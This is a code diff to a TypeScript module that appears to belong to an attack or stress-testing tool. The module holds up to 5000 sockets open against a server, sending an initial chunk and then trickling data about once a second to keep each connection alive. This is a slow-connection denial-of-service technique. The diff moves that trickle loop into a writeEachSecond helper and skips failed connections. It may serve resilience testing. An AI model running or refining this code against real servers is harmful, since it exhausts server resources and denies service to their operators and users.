@@ -1,7 +1,7 @@
 import type { Alice } from '../alice/alice.js';
 import { get, headOf } from '../alice/request.js';
 import type { Attack } from '../attack.js';
-import { KIB } from './support.js';
+import { KIB, writeEachSecond } from './support.js';
 
 const MAX_SOCKETS = 5000;
 const EMPTY = Buffer.alloc(0);
@@ -43,12 +43,13 @@ async function hold(alice: Alice, count: number, firsts: readonly Buffer[], piec
     while (!alice.signal.aborted) {
       const socket = await alice.socket();
       alice.count(socket === null ? 'not connected' : 'connected');
-      socket?.on('data', () => {});
-      socket?.write(firsts[n % firsts.length] ?? EMPTY);
-      do {
+      if (socket === null) {
         await alice.wait(1000);
-        if (piece.length > 0) socket?.write(piece);
-      } while (socket?.destroyed === false && !alice.signal.aborted);
+        continue;
+      }
+      socket.on('data', () => {});
+      socket.write(firsts[n % firsts.length] ?? EMPTY);
+      await writeEachSecond(alice, socket, piece);
     }
   };
   await Promise.all(Array.from({ length: total }, (_, n) => one(n)));
